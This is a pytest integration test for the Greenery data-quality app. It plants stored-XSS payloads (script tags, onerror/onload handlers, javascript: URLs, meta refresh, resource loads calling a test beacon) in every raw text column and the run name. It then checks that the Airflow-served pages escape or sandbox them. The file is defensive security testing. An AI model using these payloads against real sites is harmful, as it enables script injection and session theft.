"""Hostile values in every text column of raw, through the real build and GX validation, to every place
the Airflow origin shows them (issue 11, finding 4: stored XSS).

The real Greenery data is loaded, then each text column of each raw table gets rows holding markup,
script, ``javascript:`` URLs, entities, Slack mrkdwn and very long strings; each payload calls a beacon
server of the test (with its kind and column) if a browser ever acts on it. The run is validated by GX
with the project's suites, plus a probe per text column that fails on any of these values, so they show
up as unexpected values and sample keys in the Data Docs, in ``greenery_audit.validation_runs`` and on
the Data quality page. The run's name (and its DAG id) are hostile too.

- Over HTTP: the page and the docs index escape every value; every response of the app has its policy
  and ``nosniff``; the JSON is ``application/json``; every Data Docs file is served sandboxed.
- In Chromium, through a real ``airflow api-server``: no page makes the beacon hear anything, while the
  same Data Docs page served by a plain web server (the positive control) does.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import html.parser
import os
import re
import shutil
import tempfile
import time
import uuid
from pathlib import Path

import browser
import psycopg
import pytest
from psycopg import sql

from greenery import audit, wap, warehouse
from greenery.checks import docs_pages, gx
from greenery.checks import suites as suite_files
from greenery.materialize import relations
from greenery.project import models as model_files
from greenery.sources import load as raw
from greenery.sources.schema import RAW_TABLES
from greenery.tasks import validate as validate_task
from greenery.ui import app as quality_view
from greenery.ui import data_docs

pytestmark = [pytest.mark.db, pytest.mark.integration]

DAY = dt.date(2021, 2, 12)
# The sandboxed validation page of the users' suite is kept for people to look at.
SCREENSHOT = Path(os.environ.get("GREENERY_DOCS_SCREENSHOT") or Path(tempfile.gettempdir()) / "data-docs-sandboxed.png")
# A fresh id for the copies of a table's first row, per key column (so they add rows, not duplicates).
KEYS = {
    "users": ("user_id",),
    "addresses": ("address_id",),
    "promos": ("promo_id",),
    "products": ("product_id",),
    "orders": ("order_id",),
    "order_items": ("order_id", "product_id"),
    "events": ("event_id",),
}
TEXT_COLUMNS = [(t, c) for t, cols in RAW_TABLES.items() for c, kind in cols.items() if kind == "text"]
# Raw text columns whose hostile rows survive into staging (the others are ids or codes that staging
# quarantines: malformed UUID, unknown status or event type) and so reach GX, the page and the Data Docs.
REACH_GX = {
    ("users", "first_name"),
    ("users", "last_name"),
    ("users", "email"),
    ("users", "phone_number"),
    ("addresses", "address"),
    ("addresses", "state"),
    ("addresses", "country"),
    ("promos", "promo_id"),
    ("promos", "status"),
    ("products", "name"),
    ("orders", "tracking_id"),
    ("orders", "shipping_service"),
    ("events", "page_url"),
}
# Held back by staging's rules (malformed UUID, unknown status or event type): quarantined, never validated.
HELD = {
    ("addresses", "address_id"),
    ("addresses", "zipcode"),  # not 1-5 digits: invalid_zipcode (lpad would have cut it)
    ("users", "user_id"),
    ("users", "address_id"),
    ("products", "product_id"),
    ("orders", "order_id"),
    ("orders", "user_id"),
    ("orders", "promo_id"),
    ("orders", "address_id"),
    ("orders", "status"),
    ("order_items", "order_id"),
    ("order_items", "product_id"),
    ("events", "event_id"),
    ("events", "session_id"),
    ("events", "user_id"),
    ("events", "event_type"),
    ("events", "order_id"),
    ("events", "product_id"),
}
STAGED_AS = {("products", "name"): "product_name", ("promos", "status"): "promo_status"}
PROBE = "hostile-value probe"


def payloads(beacon: str, tag: str) -> dict[str, str]:
    """Five values (GX shows five unexpected values per check); each part calls ``beacon`` at
    /pwned/<kind>/<tag> if a browser acts on it. All lowercase: staging lowercases some codes.
    """
    home = f"{beacon}/pwned"
    return {
        "markup": f"<img src=x onerror=\"fetch('{home}/onerror/{tag}')\">"
        f"</textarea></title></style><svg onload=\"fetch('{home}/svg/{tag}')\">",
        "script": f"\"'><script>fetch('{home}/script/{tag}')</script>",
        "text": f"javascript:fetch('{home}/javascript/{tag}') &lt;b&gt; &amp;amp; &#60;i&#62; <!channel> *bold*"
        f" <{home}/mrkdwn/{tag}|click> {{{{7*7}}}} ${{7*7}}",
        # no script needed: an automatic redirect, and plain resource loads
        "noscript": f'<meta http-equiv="refresh" content="0;url={home}/refresh/{tag}">'
        f'<img src="{home}/load/{tag}"><link rel="stylesheet" href="{home}/css/{tag}">',
        "long": "w" * 20_000 + f"<img src=x onerror=\"fetch('{home}/long/{tag}')\">",
    }


def tag(table: str, column: str) -> str:
    return f"{table}.{column}"


@dataclasses.dataclass
class HostileRun:
    url: str
    pages: list[docs_pages.DocsPage]  # as stored in the warehouse; GX's folder is gone
    beacon: browser.Beacon
    run_id: str
    dag_id: str
    log_url: str
    summary: dict
    values: dict  # (table, column) -> {kind: value}


@pytest.fixture(scope="module")
def beacon():
    server = browser.Beacon()
    yield server
    server.close()


@pytest.fixture(scope="module")
def hostile(pg_admin_url, real_greenery, beacon, tmp_path_factory):
    """The real data with hostile rows in every raw text column, built, validated by GX and recorded.

    As the validate task does, GX writes into a fresh folder whose pages go to the warehouse; the folder is
    then deleted, so everything below is served from the warehouse alone.
    """
    url = warehouse.create_database(pg_admin_url, f"greenery_test_{os.getpid()}_hostile")
    gx_dir = tmp_path_factory.mktemp("hostile-gx")
    # GX makes a run name a folder and refuses '/' and '\\' in it: the payload builds its slashes.
    host = beacon.url.removeprefix("http://")
    call = f"s=String.fromCharCode(47);fetch('http:'+s+s+'{host}'+s+'pwned'+s+'onerror'+s+'run')"
    run_id = f'manual__2021-02-12T00:00:00+00:00"\'><img src=x onerror="{call}">'
    dag_id = f"greenery_daily</title><script>fetch('{beacon.url}/pwned/script/dag')</script>"
    log_url = f"javascript:fetch('{beacon.url}/pwned/javascript/log_url')"
    values = {(t, c): payloads(beacon.url, tag(t, c)) for t, c in TEXT_COLUMNS}
    with pytest.MonkeyPatch.context() as env:
        env.setenv(warehouse.conn_env_var(), warehouse.connection_json(url))
        models = model_files.discover()
        with psycopg.connect(url, autocommit=True) as conn:
            raw.load_dir(conn, real_greenery)
            for (table, column), kinds in values.items():
                for value in kinds.values():
                    _add_row(conn, table, column, value)
            build = wap.Build(run_id, DAY)
            wap.prepare(conn, build)
            wap.build_models(conn, models, build)
            relation = relations.resolver(conn, models, build.schema_of)
            tables = {name: relation(name) for name in models}
            suites = _with_probes(conn, suite_files.load_suites(models), models, tables)
            quarantined = validate_task.quarantined_counts(conn, models, build, list(models))
        summary = gx.validate(
            warehouse.sqlalchemy_url(), models, suites, gx_dir=gx_dir, relation=tables.__getitem__, run_name=run_id
        )
        summary.update(
            dag_id=dag_id,
            run_id=run_id,
            logical_date=DAY.isoformat(),
            failures_total=len(summary["failures"]),
            quarantined=quarantined,
            log_url=log_url,
        )
        pages = docs_pages.collect(gx_dir)
        with psycopg.connect(url) as conn:
            audit.ensure(conn)
            audit.record_data_docs(conn, uuid.uuid4().hex, run_id, pages)
            audit.record_validation(conn, summary, published=False)
        shutil.rmtree(gx_dir)
        yield HostileRun(url, pages, beacon, run_id, dag_id, log_url, summary, values)


def _add_row(conn, table: str, column: str, value: str) -> None:
    """A copy of the table's first row with ``value`` in ``column`` and fresh ids in the other key columns."""
    columns = list(RAW_TABLES[table])
    picked = [
        sql.Placeholder()
        if c == column
        else sql.SQL("gen_random_uuid()::text")
        if c in KEYS[table]
        else sql.Identifier(c)
        for c in columns
    ]
    conn.execute(
        sql.SQL("insert into {} ({}) select {} from {} limit 1").format(
            sql.Identifier("raw", table),
            sql.SQL(", ").join(map(sql.Identifier, columns)),
            sql.SQL(", ").join(picked),
            sql.Identifier("raw", table),
        ),
        (value,),
    )


def _with_probes(conn, suites, models, tables):
    """Each staging suite plus, per text column of its table, a warning that fails on any hostile value."""
    out = dict(suites)
    for name, model in models.items():
        if model.layer != "staging":
            continue
        schema, table = tables[name].split(".")
        text = conn.execute(
            "select column_name from information_schema.columns"
            " where table_schema = %s and table_name = %s and data_type = 'text' order by ordinal_position",
            (schema, table),
        ).fetchall()
        probes = tuple(
            {
                "type": "expect_column_values_to_not_match_regex",
                "kwargs": {"column": column, "regex": "pwned"},
                "severity": "warning",
                "description": PROBE,
                "id": str(uuid.uuid5(uuid.NAMESPACE_URL, f"probe/{name}/{column}")),
            }
            for (column,) in text
        )
        data = {**suites[name].data, "expectations": [*suites[name].expectations, *probes]}
        out[name] = dataclasses.replace(suites[name], data=data)
    return out


def _client(require_auth: bool = False):
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

    root = FastAPI()
    root.mount("/data-quality", quality_view.create_app(require_auth=require_auth))
    return TestClient(root)


class _Markup(html.parser.HTMLParser):
    """Every element with its attributes, and the text (entities decoded) of every element by class."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.keys: list[str] = []  # the text of each <code class="key">
        self._in_key = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag == "code" and dict(attrs).get("class") == "key":
            self._in_key = True
            self.keys.append("")

    def handle_endtag(self, tag):
        if tag == "code":
            self._in_key = False

    def handle_data(self, data):
        self.text.append(data)
        if self._in_key:
            self.keys[-1] += data


# Elements and attributes our templates write; anything else in a page came from data.
OUR_ELEMENTS = {
    "html", "head", "meta", "title", "link", "style", "body", "header", "nav", "section", "div", "h1", "h2",
    "p", "pre", "span", "strong", "a", "table", "thead", "tbody", "tr", "th", "td", "code", "wbr", "ul", "li", "bdi",
}  # fmt: skip
OUR_ATTRIBUTES = {"lang", "charset", "name", "content", "rel", "href", "class", "title", "role", "target"}


def _assert_only_our_markup(page: str) -> _Markup:
    parsed = _Markup(page)
    for element, attrs in parsed.elements:
        assert element in OUR_ELEMENTS, (element, attrs)
        assert set(attrs) <= OUR_ATTRIBUTES, (element, attrs)
        if element == "meta":
            assert set(attrs) in ({"charset"}, {"name", "content"}), attrs
        if "target" in attrs:  # links into Airflow leave its iframe
            assert attrs["target"] == "_top", attrs
        if element == "link":
            assert attrs["rel"] == "stylesheet" and re.fullmatch(r"(\.\./)*static/style\.css", attrs["href"]), attrs
        href = attrs.get("href")
        if href is not None:
            # relative links of the app, or http(s): never javascript:, data: or another host's //link
            assert re.match(r"^(https?://|(?![a-z][a-z0-9+.-]*:)(?!//)[^\\\s])", href, re.I), href
    return parsed


def _failures_with(summary: dict, needle: str) -> list[dict]:
    return [f for f in summary["failures"] if any(needle in k for k in f["sample_keys"])]


def _short(value: str, limit: int) -> str:
    return value if len(value) <= limit else value[: limit - 1] + "…"


# ---------------------------------------------------------------------------------------------------
# The hostile values get everywhere: into GX's results, the Data Docs (unescaped) and the audit table
# ---------------------------------------------------------------------------------------------------


def test_hostile_values_reach_the_results_the_docs_and_the_audit_table(hostile):
    with psycopg.connect(hostile.url) as conn:
        for (table, column), kinds in hostile.values.items():
            stored = {r[0] for r in conn.execute(sql.SQL("select {} from {}").format(
                sql.Identifier(column), sql.Identifier("raw", table)))}  # fmt: skip
            assert set(kinds.values()) <= stored, (table, column)
        [(recorded,)] = conn.execute("select summary from greenery_audit.validation_runs").fetchall()
    assert recorded["run_id"] == hostile.run_id and recorded["failures"] == hostile.summary["failures"]

    # Failing checks of the project's own suites carry them as sample keys ...
    failed = {(f["suite"], f["column"], f["expectation"]) for f in _failures_with(hostile.summary, "/pwned/")}
    assert {
        ("stg_postgres__users", "email", "expect_column_values_to_match_regex"),
        ("stg_postgres__users", "phone_number", "expect_column_values_to_match_regex"),
        ("stg_postgres__promos", "promo_status", "expect_column_values_to_be_in_set"),
        ("stg_postgres__orders", "shipping_service", "expect_column_values_to_be_in_set"),
    } <= failed
    # ... and the probes every staged text column that holds them
    probed = {(f["suite"], f["column"]) for f in hostile.summary["failures"] if f["description"] == PROBE}
    for table, column in REACH_GX:
        assert (f"stg_postgres__{table}", STAGED_AS.get((table, column), column)) in probed, (table, column)
    assert len(probed) == len(REACH_GX), probed

    # The stored results (pass 1) carry counts, not row values, so the only markup GX writes into its pages
    # is the run's name: the sandbox is what keeps it from running.
    pages = {page.suite: page.html for page in hostile.pages}
    assert {f"stg_postgres__{table}" for table, _ in REACH_GX} <= pages.keys()
    for table, column in hostile.values:
        for page in pages.values():
            assert f"/pwned/onerror/{tag(table, column)}" not in page, (table, column)
    assert "<img src=x onerror=" in pages["stg_postgres__users"].split("Run Name", 1)[1][:600]  # the run's name

    # The others are held back by staging's rules, in the run's quarantine tables (shown as counts only).
    assert set(TEXT_COLUMNS) == REACH_GX | HELD
    build = wap.Build(hostile.run_id, DAY)
    with psycopg.connect(hostile.url) as conn:
        for table, column in HELD:
            quarantine = sql.Identifier(build.schema(wap.QUARANTINE), f"stg_postgres__{table}")
            found = conn.execute(
                sql.SQL("select count(*) from {} where {}::text like %s").format(quarantine, sql.Identifier(column)),
                (f"%/pwned/onerror/{tag(table, column)}%",),
            ).fetchone()[0]
            assert found == 1, (table, column)


# ---------------------------------------------------------------------------------------------------
# Over HTTP: escaped, or sandboxed, and the right headers on everything
# ---------------------------------------------------------------------------------------------------


def _assert_page_policy(response) -> None:
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src" not in policy and "unsafe-inline" not in policy
    assert "frame-ancestors 'self'" in policy and "base-uri 'none'" in policy
    assert response.headers["x-content-type-options"] == "nosniff"


def _assert_docs_policy(response) -> None:
    policy = [d.strip() for d in response.headers["content-security-policy"].split(";")]
    sandbox = next(d.split()[1:] for d in policy if d.split()[0] == "sandbox")
    assert "allow-scripts" not in sandbox and "allow-forms" not in sandbox and "allow-popups" not in sandbox
    assert "default-src 'none'" in policy and not any(d.startswith("script-src") for d in policy)
    # no URL of the origin (nor any other) can be requested by planted markup: no 'self', no host
    assert "'self'" not in " ".join(d for d in policy if not d.startswith("frame-ancestors")), policy
    assert not any(re.search(r"https?:|\*", d) for d in policy), policy
    assert response.headers["x-content-type-options"] == "nosniff"


def test_the_page_escapes_every_hostile_value(hostile):
    response = _client().get("/data-quality/")
    assert response.status_code == 200, response.text
    _assert_page_policy(response)
    parsed = _assert_only_our_markup(response.text)
    text = "".join(parsed.text)
    # every sample key of the run's failures, whole or cut (the cut happens before escaping)
    expected = [_short(k, 160) for f in hostile.summary["failures"] for k in f["sample_keys"]]
    assert sorted(parsed.keys) == sorted(expected)
    hostile_keys = [k for k in parsed.keys if "/pwned/" in k]
    assert len(hostile_keys) >= 20, hostile_keys
    assert any(k.startswith("<img src=x onerror=") for k in parsed.keys)  # a hostile key, as text
    assert any(len(k) == 160 and k.endswith("…") for k in parsed.keys), "no long value was cut"
    assert hostile.dag_id in text and _short(hostile.run_id, 44) in text
    assert "javascript:" not in " ".join(a.get("href", "") for _, a in parsed.elements)
    # the table rows link to their sandboxed Data Docs page
    links = [a["href"] for e, a in parsed.elements if e == "a" and a.get("href", "").startswith("docs/validations/")]
    assert len(links) == len(hostile.summary["suites"]), links
    assert all("%22%27%3E%3Cimg" in link for link in links)  # the run's name, percent-encoded


def test_json_is_json_with_the_exact_values(hostile):
    response = _client().get("/data-quality/api/latest")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in response.headers["content-security-policy"]
    body = response.json()
    assert body["latest_run"]["run_id"] == hostile.run_id and body["dag_id"] == hostile.dag_id
    keys = [k for t in body["tables"] for f in t["failures"] for k in f["sample_keys"]]
    assert sorted(keys) == sorted(k for f in hostile.summary["failures"] for k in f["sample_keys"])


def test_every_data_docs_file_is_served_sandboxed(hostile):
    app = _client()
    suites = len({page.suite for page in hostile.pages})
    assert suites >= 21 and len(hostile.pages) == suites  # a page per suite
    for page in hostile.pages:
        relative = data_docs.href(page.path)
        response = app.get(f"/data-quality/docs/{relative}")
        assert response.status_code == 200, (relative, response.status_code)
        _assert_docs_policy(response)
        assert response.text.lstrip().lower().startswith(("<!doctype html>", "<html")), relative
        assert "<style>/* GX's Data Docs as the view serves them" in response.text, relative
    # the index is ours: escaped, with the hostile run's name as text
    index = app.get("/data-quality/docs/")
    _assert_docs_policy(index)
    parsed = _assert_only_our_markup(index.text)
    assert hostile.run_id in "".join(parsed.text)
    assert sum(1 for e, a in parsed.elements if e == "a" and a["href"].startswith("validations/")) == suites


def test_no_served_docs_page_links_to_a_page_that_does_not_exist(hostile):
    """Review: each page GX wrote links to its suite's page, which is not built (404). Real pages of every suite."""
    from test_quality_view import dead_links

    assert all("expectations/" in page.html for page in hostile.pages)  # GX writes the link: the view drops it
    served = ["/data-quality/docs/", *(f"/data-quality/docs/{data_docs.href(page.path)}" for page in hostile.pages)]
    dead = dead_links(_client(), served)
    # Only the run's name's planted <img src=x> (data GX writes raw; the sandbox loads nothing): no link of GX's.
    assert "<img src=x " in hostile.run_id
    assert {link for found in dead.values() for link in found} <= {("x", 404)}, dead


def test_every_other_response_has_the_strict_headers(hostile):
    app = _client()
    for url in ("/data-quality/icon.svg", "/data-quality/static/style.css", "/data-quality/nothing-here"):
        response = app.get(url)
        assert response.headers["x-content-type-options"] == "nosniff", url
        assert "default-src 'none'" in response.headers["content-security-policy"], url
    missing = app.get("/data-quality/docs/validations/missing.html")
    assert missing.status_code == 404 and missing.headers["content-type"] == "application/json"
    assert missing.headers["x-content-type-options"] == "nosniff"
    login = _client(require_auth=True).get("/data-quality/docs/", headers={"Accept": "text/html"})
    assert login.status_code == 401
    _assert_page_policy(login)
    _assert_only_our_markup(login.text)


# ---------------------------------------------------------------------------------------------------
# In Chromium, through the real api-server: nothing runs, nothing loads; the positive control does
# ---------------------------------------------------------------------------------------------------


def _pwned(beacon: browser.Beacon) -> list[str]:
    return sorted(p for p in beacon.hits if p.startswith("/pwned/"))


@pytest.mark.timeout(420)
def test_nothing_runs_in_a_real_browser_and_the_positive_control_does(hostile, tmp_path, migrated_airflow_db):
    with psycopg.connect(hostile.url) as conn:
        found = data_docs.pages_of(conn, [(s, hostile.run_id) for s in (f"stg_postgres__{t}" for t, _ in REACH_GX)])
    run_pages = {
        suite: found.get((suite, hostile.run_id))
        for suite in (f"stg_postgres__{t}" for t in sorted({t for t, _ in REACH_GX}))
    }
    assert all(run_pages.values()), run_pages
    hostile.beacon.hits.clear()
    with browser.api_server(tmp_path, migrated_airflow_db) as (base, _):
        urls = [f"{base}/data-quality/", f"{base}/data-quality/docs/"]
        urls += [f"{base}/data-quality/docs/{href}" for href in run_pages.values()]
        for url in urls:
            opened = browser.chromium(url, tmp_path / "profile")
            assert opened.returncode == 0, opened.stderr[-2000:]
            # the page did load, with the hostile values in it
            assert (
                "Data quality" in opened.stdout
                or "Expectation Validation Result" in opened.stdout
                or ("Data Docs" in opened.stdout)
            ), (url, opened.stdout[:500])
            assert "pwned" in opened.stdout, url
        png = tmp_path / "docs.png"
        shot = browser.chromium(
            f"{base}/data-quality/docs/{run_pages['stg_postgres__users']}",
            tmp_path / "profile",
            screenshot=png,
            size=(1280, 2400),
        )
        assert png.is_file(), shot.stderr[-2000:]
    assert _pwned(hostile.beacon) == [], "a hostile value ran or loaded in the viewer's browser"

    # Readable: not blank, and the failed checks are marked in red and the passed ones in green.
    width, height, pixel = browser.read_png(png)
    colours = [pixel(x, y) for x in range(0, width, 2) for y in range(0, height, 4)]
    assert any(r > 150 and g < 90 and b < 90 for r, g, b in colours), "no red 'failed' mark"
    assert any(g > 90 and r < 60 and b < 110 for r, g, b in colours), "no green 'passed' mark"
    shutil.copyfile(png, SCREENSHOT)

    # The positive control: the same files from a plain web server, without the policy.
    site = tmp_path / "plain-copy"
    for page in hostile.pages:
        (site / page.path).parent.mkdir(parents=True, exist_ok=True)
        (site / page.path).write_text(page.html)
    plain = browser.StaticServer(site)
    try:
        for href in (run_pages["stg_postgres__users"], run_pages["stg_postgres__orders"]):
            browser.chromium(f"{plain.url}/{href}", tmp_path / "profile-plain")
    finally:
        plain.close()
    # Row values stay out of the stored results; the run's name is the markup GX writes into every page.
    assert set(_pwned(hostile.beacon)) == {"/pwned/onerror/run"}, _pwned(hostile.beacon)


@pytest.mark.timeout(300)
def test_links_inside_the_sandboxed_docs_keep_the_viewers_login(hostile, tmp_path, migrated_airflow_db):
    """In the Airflow UI the docs open in a same-origin iframe, and Airflow's login cookie is SameSite=Lax.

    Sandboxed without allow-same-origin, the docs have an opaque origin, and Chromium sends no cookie with
    the navigations they start: each link followed inside them answered 401 (the Airflow UI then reloads
    the iframe itself). Followed here as a user does, in the real UI, logged in as a viewer.
    """
    password = os.urandom(8).hex()
    with browser.api_server(tmp_path, migrated_airflow_db, users={"viewer": password}) as (base, _):
        assert browser.http_get(f"{base}/data-quality/docs/")[0] == 401  # the login is what is tested
        token = browser.login_token(base, "viewer", password)
        chrome = browser.DevTools(tmp_path / "profile")
        try:
            chrome.send("Network.enable")
            chrome.send("Page.enable")
            chrome.send("Network.setCookie", name="_token", value=token, url=base, httpOnly=True, sameSite="Lax")
            # The Airflow UI's page of the plugin: the Data quality page in an iframe, then its links.
            chrome.send("Page.navigate", url=f"{base}/plugin/data-quality")
            # The Data Docs index by its exact link: the page's per-table links start with docs/ too, and one of
            # them was followed when the page was found still loading (a validation page has no validations/ link).
            for href, linked in (("docs/", str.__eq__), ("validations/", str.startswith)):
                deadline = time.monotonic() + 60  # the UI renders the iframe once its scripts ran
                while not (
                    found := chrome.find(lambda name, a, h=href, ok=linked: name == "a" and ok(a.get("href", ""), h))
                ):
                    assert time.monotonic() < deadline, (
                        href,
                        [r for r in chrome.responses() if "/data-quality/" in r[0]],
                    )
                    chrome.wait(1)
                chrome.follow(found[0])
                chrome.wait(2)
            responses = chrome.responses()
        finally:
            chrome.close()
    statuses = {url.removeprefix(base): status for url, status in responses}
    assert statuses.get("/data-quality/docs/") == 200, statuses
    clicked = {url: status for url, status in statuses.items() if url.startswith("/data-quality/docs/validations/")}
    assert clicked and set(clicked.values()) == {200}, statuses
